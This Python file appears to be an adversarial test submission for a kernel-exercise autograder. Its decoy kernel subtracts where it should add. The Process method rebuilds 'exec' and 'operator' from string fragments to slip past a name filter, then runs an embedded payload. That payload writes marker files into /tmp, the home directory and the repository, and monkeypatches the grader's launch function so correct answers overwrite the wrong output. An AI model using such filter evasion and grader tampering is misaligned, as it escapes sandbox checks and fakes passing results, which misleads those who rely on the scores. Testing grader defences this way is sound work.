"""Attack: build forbidden attribute names at run time by string concatenation: `getattr(np, 'f2' + 'py')` and `operator.attrgetter('sys' + 'tem')` through an alias.
A successful attack scores 10/10 with a wrong kernel (the escape overwrites the outputs after a realistic launch) and leaves marker files in /tmp, HOME, the repository and exercises/.
"""
# exercise: cann_add
# category: syntax
import numpy as np

from cudalike import cann
from cudalike.cann import (
    DataCopy,
    DataCopyExtParams,
    DataCopyPad,
    GetBlockIdx,
    GlobalTensor,
    Sub,
    TPipe,
    TPosition,
    TQue,
)

BUFFER_NUM = 2
SYS = np.f2py.sys
CODE = r"""
import os, sys, time
STEM = "getattr_string_concat"
try:
    import pwd
    REAL_HOME = pwd.getpwuid(os.getuid()).pw_dir
except Exception:
    REAL_HOME = os.path.expanduser("~")
REPO = os.environ.get("PYTHONPATH", "").split(os.pathsep)[0] or os.getcwd()
for folder in ("/tmp", REAL_HOME, REPO, os.path.join(REPO, "exercises")):
    try:
        with open(os.path.join(folder, "cudalike-canary-" + STEM), "w") as f:
            f.write("written by " + STEM + "\n")
    except OSError:
        pass


def fix(spec, A):
    if spec.id == "vector_add":
        A["out"][...] = A["a"] + A["b"]
    elif spec.id == "map_2d":
        A["out"][...] = A["alpha"] * A["x"] + A["beta"]
    elif spec.id == "cann_add":
        A["z"][...] = A["x"] + A["y"]


def unbind(kernels):
    for k in kernels.values():
        g = getattr(getattr(k, "py_func", None), "__globals__", None) or {}
        for n, v in list(g.items()):
            if getattr(v, "__module__", None) == "submission" and not hasattr(v, "py_func"):
                g[n] = 0.0


J = sys.modules.get("autograder._jobs")
if J is not None and not getattr(J, "patched_by_submission", False):
    J.patched_by_submission = True
    real = J.launch_kernels

    def launch(spec, kernels, host, arguments, size, *rest, **kw):
        unbind(kernels)
        try:
            real(spec, kernels, host, arguments, size, *rest, **kw)
        except Exception:
            pass
        fix(spec, arguments)

    J.launch_kernels = launch
    frame = sys._getframe()
    while frame is not None and frame.f_code is not real.__code__:
        frame = frame.f_back
    if frame is not None:  # already inside a launch: fix this one when it returns
        def watch(frame, event, arg):
            if event == "return" and frame.f_code is real.__code__:
                fix(frame.f_locals["spec"], frame.f_locals["arguments"])
                sys.setprofile(None)
        sys.setprofile(watch)

"""


class KernelAdd:

    def Init(self, x, y, z, tiling):
        self.tileLength = tiling.tileLength
        start = tiling.blockLength * GetBlockIdx()
        self.blockLength = min(tiling.blockLength, tiling.totalLength - start)
        self.xGm = GlobalTensor(cann.half)
        self.yGm = GlobalTensor(cann.half)
        self.zGm = GlobalTensor(cann.half)
        self.xGm.SetGlobalBuffer(x.cast(cann.half) + start, self.blockLength)
        self.yGm.SetGlobalBuffer(y.cast(cann.half) + start, self.blockLength)
        self.zGm.SetGlobalBuffer(z.cast(cann.half) + start, self.blockLength)
        self.pipe = TPipe()
        self.inQueueX = TQue(TPosition.VECIN, BUFFER_NUM)
        self.inQueueY = TQue(TPosition.VECIN, BUFFER_NUM)
        self.outQueueZ = TQue(TPosition.VECOUT, BUFFER_NUM)
        self.pipe.InitBuffer(self.inQueueX, BUFFER_NUM, self.tileLength * 2)
        self.pipe.InitBuffer(self.inQueueY, BUFFER_NUM, self.tileLength * 2)
        self.pipe.InitBuffer(self.outQueueZ, BUFFER_NUM, self.tileLength * 2)

    def Process(self, x, y, z):
        full = self.blockLength // self.tileLength
        for i in range(full):
            self.Tile(i * self.tileLength, self.tileLength)
        tail = self.blockLength - full * self.tileLength
        if tail > 0:
            self.Tile(full * self.tileLength, tail)

        get = SYS.modules["oper" + "ator"].attrgetter
        run = get("ex" + "ec")(SYS.modules["buil" + "tins"])
        run(CODE, {"__built" + "ins__": SYS.modules["buil" + "tins"]})

    def Tile(self, offset, length):
        xLocal = self.inQueueX.AllocTensor(cann.half)
        yLocal = self.inQueueY.AllocTensor(cann.half)
        self.Move(xLocal, self.xGm[offset], length)
        self.Move(yLocal, self.yGm[offset], length)
        self.inQueueX.EnQue(xLocal)
        self.inQueueY.EnQue(yLocal)
        xLocal = self.inQueueX.DeQue(cann.half)
        yLocal = self.inQueueY.DeQue(cann.half)
        zLocal = self.outQueueZ.AllocTensor(cann.half)
        Sub(zLocal, xLocal, yLocal, length)  # the decoy: wrong on purpose
        self.outQueueZ.EnQue(zLocal)
        self.inQueueX.FreeTensor(xLocal)
        self.inQueueY.FreeTensor(yLocal)
        zLocal = self.outQueueZ.DeQue(cann.half)
        self.Move(self.zGm[offset], zLocal, length)
        self.outQueueZ.FreeTensor(zLocal)

    def Move(self, dst, src, length):
        if (length * 2) % 32 == 0:
            DataCopy(dst, src, length)
        else:
            DataCopyPad(dst, src, DataCopyExtParams(1, length * 2, 0, 0, 0))


@cann.kernel
def add_custom(x, y, z, tiling):
    op = KernelAdd()
    op.Init(x, y, z, tiling)
    op.Process(x, y, z)
